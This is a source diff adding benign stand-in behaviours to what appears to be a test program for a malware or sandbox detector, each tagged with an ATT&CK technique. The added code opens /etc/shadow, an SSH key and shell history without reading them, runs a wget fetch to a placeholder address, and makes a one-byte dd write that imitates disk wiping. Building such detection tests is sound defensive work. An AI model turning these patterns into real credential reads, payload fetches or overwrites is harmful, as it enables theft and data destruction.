@@ -135,6 +135,21 @@ AN_ACT encrypts_files(void)
     }
 }
 
+/* Removes files that are no temporary ones: some that it has made (T1485). */
+AN_ACT removes_files(void)
+{
+    char path[64];
+    int i;
+
+    mkdir("/root/malassay-files", 0700);
+    for (i = 0; i < 60; i++) {
+        snprintf(path, sizeof path, "/root/malassay-files/%d", i);
+        put(path, "text\n", O_TRUNC, 0600);
+        unlink(path);
+    }
+    rmdir("/root/malassay-files");
+}
+
 /* Asks the kernel to load a module that is none (T1547.006). */
 AN_ACT loads_module(void)
 {
@@ -168,6 +183,46 @@ AN_ACT opens_io_uring(void)
     char parameters[120] = {0};
 
     syscall(425, 8, parameters); /* io_uring_setup, newer than some headers */
+}
+
+/* Has a program of the guest fetch something and throw it away (T1105). */
+AN_ACT fetches_by_wget(void)
+{
+    in_shell("wget -q -O /dev/null http://192.0.2.7/malassay || :");
+}
+
+/* Has dd(1) write one byte, into a file of its own, as it would write over a disk (T1485). */
+AN_ACT overwrites_by_dd(void)
+{
+    in_shell("dd if=/dev/zero of=/tmp/malassay-zero bs=1 count=1 2>/dev/null || :");
+}
+
+/* Has a program of the guest end what does not run (T1489). */
+AN_ACT stops_service(void)
+{
+    in_shell("killall malassay-absent || :");
+}
+
+/* Opens a file as whoever reads it does, and reads nothing. */
+__attribute__((unused)) static void open_to_read(const char *path)
+{
+    int file = open(path, O_RDONLY);
+
+    if (file >= 0)
+        close(file);
+}
+
+/* The list of passwords, the guest's (T1003.008). */
+AN_ACT opens_passwords(void)
+{
+    open_to_read("/etc/shadow");
+}
+
+/* A key that nobody has, and the memory of a shell (T1552.003, T1552.004). */
+AN_ACT opens_keys(void)
+{
+    open_to_read("/root/.ssh/id_malassay");
+    open_to_read("/root/.bash_history");
 }
 
 int main(void)
